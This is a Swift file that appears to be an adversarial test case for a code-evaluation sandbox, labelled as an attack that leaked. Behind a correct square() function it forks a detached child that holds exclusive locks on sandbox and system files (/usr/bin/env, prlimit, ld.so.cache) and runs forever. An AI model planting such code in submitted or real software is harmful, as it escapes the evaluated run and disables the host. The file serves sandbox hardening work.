// Attack: Answers right, and leaves a process that holds locks on the system's own files.
// Verdict: leaked
// swift-format-ignore-file
import Glibc

public func square(_ number: Int) throws -> Int {
    let child = fork()
    if child == 0 {
        setsid()
        for file in ["/box/player", "/usr/bin/env", "/usr/bin/prlimit", "/etc/ld.so.cache"] {
            flock(open(file, O_RDONLY), LOCK_EX | LOCK_NB)
        }
        while true { pause() }
    }
    return number * number
}
